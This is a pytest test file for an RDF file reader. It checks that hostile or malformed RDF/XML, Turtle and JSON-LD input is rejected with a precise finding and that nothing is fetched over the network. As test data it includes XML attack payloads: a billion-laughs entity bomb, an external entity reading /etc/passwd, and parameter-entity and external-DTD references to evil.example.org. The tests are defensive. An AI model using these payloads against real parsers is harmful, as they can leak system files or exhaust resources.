"""Hostile and broken RDF: refused in one line that says where and what to do; nothing is ever fetched."""

from __future__ import annotations

import json
import socket
import urllib.request
from pathlib import Path

import pytest

from graph_builder.sources import open_source
from graph_builder.sources.rdf_file import parse as rdf_file_parse
from graph_builder.sources.rdf_file.looks import is_ftm, is_rdf
from graph_builder.sources.rdf_file.source import RdfFile
from ontology.errors import Finding, InputError

RDF = 'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:org="http://www.w3.org/ns/org#" xmlns:foaf="http://xmlns.com/foaf/0.1/"'
BODY = '<org:Organization rdf:about="http://a.example.org/x"><foaf:name>A</foaf:name></org:Organization>'
ORG = "<http://a.example.org/x> a <http://www.w3.org/ns/org#Organization> ; <http://xmlns.com/foaf/0.1/name> 'A' .\n"
NAME = "members-2025-01-01"


@pytest.fixture(autouse=True)
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    """Any attempt to open a connection fails the test."""

    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError(f"the network was asked: {args}")

    for name in ("socket", "create_connection", "getaddrinfo"):
        monkeypatch.setattr(socket, name, refuse)
    monkeypatch.setattr(urllib.request, "urlopen", refuse)


def errors(path: Path) -> list[Finding]:
    source = RdfFile(path)
    found = [finding for finding in source.validate() if finding.severity == "error"]
    with pytest.raises(InputError) as caught:
        source.tables()
    assert "\n" not in str(caught.value)
    assert caught.value.findings
    return found


def write(folder: Path, content: str | bytes, ending: str) -> Path:
    path = folder / f"{NAME}{ending}"
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return path


LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10 if i else "lol"}">' for i in range(10))


@pytest.mark.parametrize(
    "doctype",
    [
        f"<!DOCTYPE rdf:RDF [{LAUGHS}]>",
        '<!DOCTYPE rdf:RDF [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rdf:RDF [<!ENTITY % x SYSTEM "http://evil.example.org/x.dtd"> %x;]>',
        '<!DOCTYPE rdf:RDF SYSTEM "http://evil.example.org/x.dtd">',
        '<!DOCTYPE rdf:RDF [<!ENTITY org "http://www.w3.org/ns/org#">]>',
        "<!DOCTYPE rdf:RDF [<!ELEMENT x ANY>]>",
    ],
    ids=["billion laughs", "external entity", "parameter entity", "external DTD", "harmless entity", "plain DTD"],
)
def test_xml_with_a_dtd_is_refused_before_it_is_parsed(tmp_path: Path, doctype: str, monkeypatch: pytest.MonkeyPatch) -> None:
    parsed: list[object] = []
    monkeypatch.setattr("pyoxigraph.parse", lambda *args, **kwargs: parsed.append(args))
    path = write(tmp_path, f'<?xml version="1.0"?>\n{doctype}\n<rdf:RDF {RDF}>{BODY}</rdf:RDF>', ".rdf")
    [finding] = errors(path)
    assert "DTD or an entity" in finding.found and finding.row == 2
    assert not parsed


def test_plain_xml_is_read(tmp_path: Path) -> None:
    path = write(tmp_path, f'<?xml version="1.0"?><rdf:RDF {RDF}>{BODY}</rdf:RDF>', ".rdf")
    assert RdfFile(path).tables().attributes.num_rows


@pytest.mark.parametrize(
    "context",
    [
        "https://schema.org",
        "https://schema.org/",
        "http://schema.org/docs/jsonldcontext.jsonld",
        ["https://w3id.org/security/v1", {"name": "http://xmlns.com/foaf/0.1/name"}],
        "context.jsonld",
        {"@version": 1.1, "@import": "https://schema.org/"},
        {"org": {"@id": "http://x.example.org/org", "@context": "https://schema.org/"}},
    ],
)
def test_a_context_elsewhere_is_named_and_never_fetched(tmp_path: Path, context: object) -> None:
    content = json.dumps({"@context": context, "@id": "http://a.example.org/", "@type": "Organization", "name": "A"})
    found = errors(write(tmp_path, content, ".jsonld"))
    assert len(found) == 1 and "never fetched" in found[0].found and "into @context of this file" in found[0].accepted
    wanted = json.dumps(context)
    assert any(part in wanted for part in found[0].found.split("'")[1::2])


def test_an_inlined_context_is_read(tmp_path: Path) -> None:
    content = json.dumps({"@context": {"@vocab": "https://schema.org/"}, "@id": "http://a.example.org/", "@type": "Corporation", "name": "A"})
    assert "kind:rdf_company" in RdfFile(write(tmp_path, content, ".jsonld")).tables().attributes["value"].to_pylist()


@pytest.mark.parametrize(
    ("content", "ending", "row", "found"),
    [
        (ORG + "<http://b.example.org/> a\n<http://c.example.org/> .\n<http://d.example.org/>", ".ttl", 4, "broken syntax"),
        (ORG + "<http://a.example.org/b c> a <http://c.example.org/> .", ".ttl", 2, "broken syntax"),
        ("<http://a> <http://b> <http://c> .\nrubbish\n", ".nt", 2, "broken syntax"),
        (f"<rdf:RDF {RDF}>\n<org:Organization>\n</rdf:RDF>", ".rdf", 3, "broken XML"),
        ('{"@id":\n "http://a",\n', ".jsonld", 3, "broken JSON"),
        ('{"@id": "http://a b/", "http://c": 1}', ".jsonld", None, "a space in it"),
        ("", ".ttl", None, "the file is empty"),
        (" \n\n", ".jsonld", None, "the file is empty"),
        ("<http://a.example.org/é> a <http://c.example.org/> .".encode("latin-1"), ".ttl", 1, "not UTF-8"),
        (ORG.encode("utf-16"), ".ttl", 1, "UTF-16"),
        (b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 4, ".ttl", None, "UTF-8"),
        (b"PK\x00\x00 text", ".ttl", 1, "NUL byte"),
        ("<http://a> <http://b> <http://c> .", ".ttl", None, "no organisation in the file"),
        ("<http://a> a <http://www.w3.org/ns/org#Organization> .", ".ttl", None, "no organisation with a name"),
        ("[" * 100_000, ".jsonld", None, "nested too deep"),
        ('{"a":' * 100_000, ".jsonld", None, "nested too deep"),
    ],
)
def test_what_is_wrong_and_where(tmp_path: Path, content: str | bytes, ending: str, row: int | None, found: str) -> None:
    findings = errors(write(tmp_path, content, ending))
    assert len(findings) == 1
    assert found in findings[0].found
    assert row is None or findings[0].row == row
    assert findings[0].accepted


def test_what_was_looked_for_is_named(tmp_path: Path) -> None:
    [finding] = errors(write(tmp_path, "<http://a> <http://b> <http://c> .", ".ttl"))
    assert "org:Organization" in finding.accepted and "schema:Organization" in finding.accepted


@pytest.mark.parametrize("ending", [".ttl", ".jsonld", ".rdf"])
def test_too_large(tmp_path: Path, ending: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rdf_file_parse, "MAX_BYTES", 20)
    monkeypatch.setattr(rdf_file_parse, "MAX_JSON_BYTES", 20)
    [finding] = errors(write(tmp_path, ORG, ending))
    assert "bytes" in finding.found and "at most 20" in finding.accepted


def test_too_many_triples(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rdf_file_parse, "MAX_TRIPLES", 1)
    [finding] = errors(write(tmp_path, ORG, ".ttl"))
    assert finding.found == "more than 1 triples"


def test_a_circle_of_parts_and_of_broader_terms(tmp_path: Path) -> None:
    part, name = "<http://www.w3.org/ns/org#subOrganizationOf>", "<http://xmlns.com/foaf/0.1/name>"
    text = "".join(
        f"<http://a.example.org/{a}> a <http://www.w3.org/ns/org#Organization> ; {name} '{a}' ; {part} <http://a.example.org/{b}> .\n"
        for a, b in ("xy", "yz", "zx")
    )
    [finding] = errors(write(tmp_path, text, ".ttl"))
    assert finding.column == "partOf" and finding.found == f"a circle: {', '.join(f'{NAME}:{key}' for key in 'xyz')}"
    skos = "http://www.w3.org/2004/02/skos/core#"
    text = ORG + "<http://a.example.org/x> <http://schema.org/knowsAbout> <http://a.example.org/s> .\n"
    text += "".join(f"<http://a.example.org/{a}> <{skos}prefLabel> '{a}' ; <{skos}broader> <http://a.example.org/{b}> .\n" for a, b in ("st", "ts"))
    [finding] = errors(write(tmp_path, text, ".ttl"))
    assert finding.column == "broader"


def test_a_relation_to_itself_is_left_out(tmp_path: Path) -> None:
    text = ORG + "<http://a.example.org/x> <http://www.w3.org/ns/org#memberOf> <http://a.example.org/x> ."
    source = RdfFile(write(tmp_path, text, ".ttl"))
    assert source.tables().relations.num_rows == 0
    assert any("of something to itself" in finding.found for finding in source.validate())


@pytest.mark.parametrize("depth", [50_000])
def test_deep_nesting_does_not_end_the_program(tmp_path: Path, depth: int) -> None:
    nested = "<http://a.example.org/x> <http://p.example.org/> " + "[ <http://p.example.org/> " * depth + "1" + " ]" * depth + " ."
    assert RdfFile(write(tmp_path, ORG + nested, ".ttl")).tables().attributes.num_rows


def test_control_characters_are_taken_out(tmp_path: Path) -> None:
    text = ORG.replace("'A'", "'A\\u0007 b\\u0000c'")
    assert "A b c" in RdfFile(write(tmp_path, text, ".ttl")).tables().attributes["value"].to_pylist()


def test_two_persons_in_a_circle_and_an_organisation_that_is_a_person(tmp_path: Path) -> None:
    foaf = "http://xmlns.com/foaf/0.1/"
    text = ORG + f"_:a a <{foaf}Person> ; <{foaf}knows> _:b . _:b a <{foaf}Person> ; <{foaf}knows> _:a .\n"
    text += f"<http://a.example.org/me> a <http://schema.org/Person>, <http://schema.org/Organization> ; <{foaf}name> 'Moi' .\n"
    source = RdfFile(write(tmp_path, text, ".ttl"))
    assert "Moi" not in source.tables().attributes["value"].to_pylist()
    assert any(finding.found.startswith("3 natural persons") for finding in source.validate())


def test_a_missing_file_and_a_folder(tmp_path: Path) -> None:
    assert "cannot be read" in RdfFile(tmp_path / "gone.ttl").validate()[0].found
    with pytest.raises(InputError, match="a folder"):
        open_source(f"rdf:{tmp_path}")


@pytest.mark.parametrize(
    ("name", "content", "rdf", "ftm"),
    [
        ("a.ttl", ORG, True, False),
        ("a.NT", ORG, True, False),
        ("a.json", '{"@context": {}, "@id": "x"}', True, False),
        ("a.json", '{"id": "a", "schema": "Company", "properties": {"name": ["A"]}}\n', False, True),
        ("a.jsonl", '\ufeff{"properties": {}, "schema": "Company", "id": "a"}\n', False, True),
        ("a.json", '{"name": "a package", "resources": []}', False, False),
        ("a.json", "", False, False),
        ("a.xml", f"<rdf:RDF {RDF}/>", True, False),
        ("a.xml", "<html/>", False, False),
        ("a.csv", ORG, False, False),
    ],
)
def test_how_a_format_is_recognised(tmp_path: Path, name: str, content: str, rdf: bool, ftm: bool) -> None:
    path = tmp_path / name
    path.write_text(content, encoding="utf-8")
    assert (is_rdf(path), is_ftm(path)) == (rdf, ftm)
    assert not is_rdf(tmp_path / "gone.ttl") and not is_ftm(tmp_path / "gone.jsonl")
